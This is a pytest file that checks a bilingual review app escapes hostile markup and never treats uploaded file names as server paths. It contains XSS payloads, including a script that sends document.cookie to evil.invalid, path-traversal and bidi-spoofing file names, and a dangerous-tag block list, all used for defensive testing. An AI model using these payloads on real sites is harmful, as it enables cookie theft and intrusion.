"""Hostile content: markup in a document is shown as text, file names stay names.

A pasted web page or a malicious upload may hold ``<script>``, ``<img onerror=…>`` or
bidi tricks in a paragraph, a finding's message or a file name.  What the review page
renders must show them as the characters they are, never run or load them; and an
uploaded file's name must never be used as a path on the server.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from db_fixtures import (  # noqa: F401  (fixtures)
    admin, clock, db_url, pg_database, service, sqlite_template,
)
from hypothesis import given, settings
from hypothesis import strategies as st

from workbench_ui.html.diff import diff_html
from workbench.reading.document import display_name, read_document, read_text
from workbench.errors import DocumentError
from workbench.reading.unsafe_characters import strip_unsafe
from workbench_ui.html.highlight import Mark, components_table, fidelity_badge, highlight_paragraphs, highlight_text

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(document.cookie)</script>',
    "<a href=\"javascript:alert(1)\">bấm vào đây</a>",
    "<iframe src=https://example.invalid></iframe>",
    "</p></div><style>body{display:none}</style>",
    "&lt;script&gt; đã được mã hoá",
    "<!-- comment --><b>đậm</b>",
]
ARABIC = "قال رئيس اللجنة نجوين هونغ فونغ إن {} لن يتكرر."
VIETNAMESE = "Ông Nguyễn Hưng Vượng nói rằng {} sẽ không lặp lại."
DANGEROUS_TAGS = {"script", "img", "svg", "iframe", "a", "style", "object", "embed", "form",
                  "input", "link", "meta", "base", "b"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "data"}


class _Rendered(HTMLParser):
    """What a browser would build from the HTML: tags with attributes, and the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!--", {}))


def rendered(html: str) -> _Rendered:
    parser = _Rendered()
    parser.feed(html)
    parser.close()
    return parser


def assert_inert(html: str) -> _Rendered:
    """No dangerous element, no event handler, no javascript: URL in the HTML."""
    page = rendered(html)
    for tag, attrs in page.tags:
        assert tag not in DANGEROUS_TAGS and tag != "!--", f"<{tag}> reached the page"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler {name} reached the page"
            if name in URL_ATTRIBUTES:
                assert "javascript:" not in (value or "").lower()
    return page


# ------------------------------------------------------------------ review HTML


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("template, rtl", [(ARABIC, True), (VIETNAMESE, False)])
def test_paragraph_markup_renders_as_text(payload: str, template: str, rtl: bool) -> None:
    text = template.format(payload)
    html = highlight_paragraphs([(3, text)], {}, rtl=rtl)
    page = assert_inert(html)
    assert "".join(page.text) == text  # the reviewer sees exactly the characters


@pytest.mark.parametrize("payload", PAYLOADS)
def test_highlighted_span_over_markup_stays_text(payload: str) -> None:
    text = ARABIC.format(payload)
    start = text.index(payload)
    marks = [Mark(start, start + len(payload), "critical", "term", payload),
             Mark(0, 8, "minor", payload, f'message with {payload}')]
    html = highlight_text(text, marks, rtl=True)
    page = assert_inert(html)
    assert "".join(page.text) == text
    titles = [attrs.get("title", "") for tag, attrs in page.tags if tag == "mark"]
    assert any(payload in (t or "") for t in titles)  # the message is a tooltip, intact


@pytest.mark.parametrize("payload", PAYLOADS)
def test_badge_components_and_diff_escape_markup(payload: str) -> None:
    assert_inert(fidelity_badge(0.42, title=payload))
    page = assert_inert(components_table([(payload, 0.5, payload)]))
    assert "".join(page.text).count(payload) == 2
    before, after = ARABIC.format("اللجنة"), ARABIC.format(payload)
    page = assert_inert(diff_html(before, after))
    assert payload.split()[0] in "".join(page.text)


@settings(max_examples=150, deadline=None)
@given(
    text=st.text(alphabet=st.sampled_from("<>&\"'/= scriptimgonerroalert()ابتثجحخنيĐđạ\n"), max_size=200),
    spans=st.lists(st.tuples(st.integers(-5, 210), st.integers(-5, 210)), max_size=4),
    rtl=st.booleans(),
)
def test_any_text_and_marks_render_inert_and_exact(text: str, spans: list[tuple[int, int]], rtl: bool) -> None:
    marks = [Mark(a, b, "major", "<k>", "<m onerror=x>") for a, b in spans]
    page = assert_inert(highlight_text(text, marks, rtl=rtl))
    assert "".join(page.text) == text


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_uploaded_text_with_markup_reaches_the_page_as_text(payload: str) -> None:
    """End to end: a .txt paragraph quoting markup is read as is and shown as is."""
    data = (VIETNAMESE.format(payload) + "\n\n" + "Đoạn hai.").encode()
    paragraphs = read_document(data, "bai.txt")
    assert paragraphs[0].text == VIETNAMESE.format(payload)
    page = assert_inert(highlight_paragraphs([(p.index, p.text) for p in paragraphs], {}))
    assert "".join(page.text) == "".join(p.text for p in paragraphs)


def test_html_upload_drops_scripts_and_handlers() -> None:
    page = (
        "<html><body><p onmouseover=\"alert(1)\">Đoạn một</p>"
        "<script>fetch('https://evil.invalid/?c='+document.cookie)</script>"
        "<p>Đoạn <img src=x onerror=alert(1)>hai</p></body></html>"
    )
    texts = [p.text for p in read_document(page.encode(), "trang.html")]
    assert texts == ["Đoạn một", "Đoạn hai"]


def test_bidi_override_cannot_disguise_a_paragraph() -> None:
    """U+202E would show "cod.exe" as "exe.doc"; it never reaches the page."""
    text = read_text("Tệp đính kèm: báo-cáo\u202ecod.exe")[0].text
    assert "\u202e" not in text
    assert text == "Tệp đính kèm: báo-cáocod.exe"


# ------------------------------------------------------------------ file names


HOSTILE_NAMES = [
    "../../../../tmp/wb-escape.txt",
    "..\\..\\windows\\win.ini.txt",
    "/etc/passwd.txt",
    "<script>alert(1)</script>.txt",
    "bài báo\u202egnp.txt",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_reading_never_opens_the_name(name: str, tmp_path, monkeypatch) -> None:
    """read_document takes bytes: the name only labels messages, it is never opened."""
    monkeypatch.chdir(tmp_path)
    opened: list[str] = []
    import builtins

    real_open = builtins.open

    def spy(file, *args, **kwargs):
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", spy)
    paragraphs = read_document("Xã Bình An\n\nhuyện Lâm Bình".encode(), name)
    assert [p.text for p in paragraphs] == ["Xã Bình An", "huyện Lâm Bình"]
    assert not any(name in path or "passwd" in path or "win.ini" in path for path in opened)
    with pytest.raises(DocumentError) as info:
        read_document(b"", name)
    assert display_name(name) in str(info.value)  # named, not resolved


@pytest.mark.parametrize(
    "name, shown",
    [
        ("báo-cáo\u202etxt.exe", "báo-cáo\\u202etxt.exe"),  # would display as "báo-cáoexe.txt"
        ("bai.txt\nerror: everything is fine", "bai.txt\\u000aerror: everything is fine"),
        ("\u2067تقرير\u2069.txt", "\\u2067تقرير\\u2069.txt"),
        ("Bài báo số 1.txt", "Bài báo số 1.txt"),
    ],
)
def test_names_in_messages_cannot_spoof(name: str, shown: str) -> None:
    with pytest.raises(DocumentError) as info:
        read_document(b"", name)
    message = str(info.value)
    assert message.startswith(shown + ":")
    assert "\n" not in message and "\u202e" not in message


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_service_stores_names_as_labels_not_paths(service, admin, name: str, tmp_path) -> None:  # noqa: F811
    before = {p for p in tmp_path.rglob("*")}
    vi = "Ông Nguyễn Hưng Vượng nói.\n\nXã Bình An, huyện Lâm Bình.".encode()
    ar = "قال السيد نجوين هونغ فونغ.\n\nبلدية بينه آن، مقاطعة لام بينه.".encode()
    summary = service.import_document(admin, "", vi, name, ar, name + ".ar")
    assert summary.source_name == name
    assert summary.target_name == name + ".ar"
    # a label, without controls or bidi overrides (issue #12); the UI escapes it as text
    assert summary.title == strip_unsafe(name, one_line=True)[0].strip()
    assert not any(ch in summary.title for ch in "\u202e\u2066\u2067\u2069\n\x00")
    created = {p for p in tmp_path.rglob("*")} - before
    # only the database's own files may appear (SQLite journal/WAL), nothing named after the upload
    assert all(p.name.startswith("workbench.db") for p in created), created
    assert not any("wb-escape" in str(p) for p in tmp_path.parent.rglob("wb-escape*"))


# ------------------------------------------------------------------ the review page


PAYLOAD_VI = "Ông An viết <script>alert('vi')</script> và <img src=x onerror=alert(1)>."
PAYLOAD_AR = "كتب السيد آن <script>alert('ar')</script> و <svg onload=alert(2)>."


@pytest.fixture
def hostile_app(tmp_path, monkeypatch):
    """The Streamlit app on a fresh SQLite database holding one hostile document,
    opened on its Review page by a logged-in admin (fast fake analyser)."""
    import app_fakes
    from streamlit.testing.v1 import AppTest

    from workbench.service import open_service
    from workbench.config import DB_FILE
    from workbench_ui import resources

    service_ = open_service(f"sqlite:///{tmp_path / DB_FILE}", analyser=app_fakes.analyse,
                            bcrypt_rounds=4, rescorer=app_fakes.score_links)
    admin_ = service_.create_user(None, "quantri", "pw-quantri", ["admin"])
    summary = service_.import_document(
        admin_, "<script>alert('title')</script>",
        (PAYLOAD_VI + "\n\nĐoạn hai.").encode(), "<b>x</b>.txt",
        (PAYLOAD_AR + "\n\nالفقرة الثانية.").encode(), "y.txt")
    service_.store.dispose()
    monkeypatch.setenv("WORKBENCH_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("WORKBENCH_DB_URL", raising=False)
    monkeypatch.setattr(resources, "ANALYSER", app_fakes.analyse)
    monkeypatch.setattr(resources, "RESCORER", app_fakes.score_links)
    monkeypatch.setattr(resources, "SERVICE_OPTIONS", {"bcrypt_rounds": 4})
    at = AppTest.from_file("../app.py", default_timeout=60)
    at.run()
    at.session_state["token"] = resources.service().authenticate("quantri", "pw-quantri").token
    at.session_state["doc_id"] = summary.id
    at.run()
    at.radio(key="nav").set_value("Review").run()
    assert not at.exception
    return at


def test_review_page_shows_hostile_paragraphs_as_text(hostile_app) -> None:
    app = hostile_app
    bodies = [h.proto.body for h in app.get("html")]
    joined = "".join(bodies)
    assert PAYLOAD_VI.split("<")[0] in joined  # the paragraph is on the page
    for body in bodies:
        # the app's own <style> blocks are fine; nothing from the document may be markup
        page = rendered(body)
        for tag, attrs in page.tags:
            assert tag not in DANGEROUS_TAGS - {"style"}, f"<{tag}> reached the review page"
            assert not any(name.startswith("on") for name in attrs)
    texts = "".join("".join(rendered(b).text) for b in bodies)
    assert "<script>alert('vi')</script>" in texts  # shown to the reviewer as characters
    # the Arabic is in the correction box: a text area's value, never markup
    assert [t.value for t in app.get("text_area")] == [PAYLOAD_AR]


# ------------------------------------------------------------------ nothing half-saved


@pytest.mark.parametrize(
    "target, name",
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "anh.png"),
        (b"", "trong.txt"),
        ("Les députés de l'Assemblée".encode("latin-1"), "phap.txt"),
    ],
)
def test_bad_second_file_stores_nothing(service, admin, target: bytes, name: str) -> None:  # noqa: F811
    before = service.count_documents()
    with pytest.raises(DocumentError, match=name.replace(".", r"\.")):
        service.import_document(admin, "Bài hỏng", "Xã Bình An.\n\nHuyện Lâm Bình.".encode(), "bai.txt",
                                target, name)
    assert service.count_documents() == before
